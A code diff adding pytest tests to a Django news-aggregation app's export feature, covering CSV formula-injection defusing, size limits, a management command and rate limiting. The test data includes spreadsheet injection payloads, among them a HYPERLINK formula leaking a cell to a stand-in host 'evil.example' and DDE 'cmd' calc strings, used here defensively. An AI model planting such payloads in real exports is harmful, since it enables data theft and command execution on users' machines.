@@ -125,3 +125,67 @@ def test_export_story_command_writes_each_format(story, tmp_path):
             "export_story", str(story.pk), "--format", fmt, "--output", str(path), stderr=io.StringIO()
         )
         assert path.stat().st_size > 100
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1 more ship sank off Gozo+cmd|' /C calc'!A0, the coastguard said.",
+    "-2+3 people were hurt, officials said.",
+    "@SUM(1+1)*cmd|' /C calc'!A0 was posted by the port authority on Tuesday.",
+    "\t=1+1 was written on the placard.",
+    "\r=1+1 was written on the placard.",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_the_csv_export_defuses_spreadsheet_formulas(client, formula):
+    story = Story.objects.create(title="Formulas")
+    for outlet, text in [("=cmd|'/C calc'!A0", formula), ("Plain outlet", "Officials met on Monday.")]:
+        ingest(ArticleInput(text=text, outlet=outlet), story=story)
+    response = get(client, story, "csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert "'=cmd|'/C calc'!A0" in rows[0]
+    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert dangerous == []
+    stored = Article.objects.get(outlet__name__startswith="=").sentences.values_list("text", flat=True)
+    risky = [text for text in stored if text.startswith(("=", "+", "-", "@"))]
+    assert risky and all("'" + text in cells for text in risky)
+
+
+@pytest.mark.parametrize("fmt", ["html", "csv", "json", "pdf"])
+def test_a_story_over_the_export_limit_is_refused_with_a_message(client, story, settings, fmt):
+    settings.MAX_EXPORT_SENTENCES = settings.MAX_PDF_EXPORT_SENTENCES = 5  # the story has 6
+    response = get(client, story, fmt)
+    assert response.status_code == 413
+    message = response.content.decode()
+    assert f"This story has 6 sentences; a {fmt.upper()} export from the web page is limited to 5." in message
+    assert f"manage.py export_story {story.pk} --format {fmt}" in message
+
+
+def test_the_pdf_limit_is_lower_than_the_others(client, story, settings):
+    settings.MAX_PDF_EXPORT_SENTENCES = 5
+    assert get(client, story, "pdf").status_code == 413
+    assert get(client, story, "html").status_code == 200
+
+
+def test_the_command_exports_a_story_over_the_web_limit(story, settings, tmp_path):
+    from django.core.management import call_command
+
+    settings.MAX_EXPORT_SENTENCES = 1
+    call_command("export_story", str(story.pk), "--format", "csv", "--output", str(tmp_path / "out.csv"))
+    assert (tmp_path / "out.csv").stat().st_size > 100
+
+
+def test_exports_are_rate_limited_per_client(client, editor, story, settings):
+    from django.test import Client
+
+    settings.EXPORTS_PER_MINUTE = 3
+    assert [get(client, story, "csv").status_code for _ in range(3)] == [200, 200, 200]
+    refused = get(client, story, "csv")
+    assert refused.status_code == 429
+    assert "Too many exports in a minute" in refused.content.decode()
+    assert 0 < int(refused["Retry-After"]) <= 60
+    signed_in = Client()
+    signed_in.force_login(editor)
+    assert get(signed_in, story, "csv").status_code == 200  # another client counts on its own
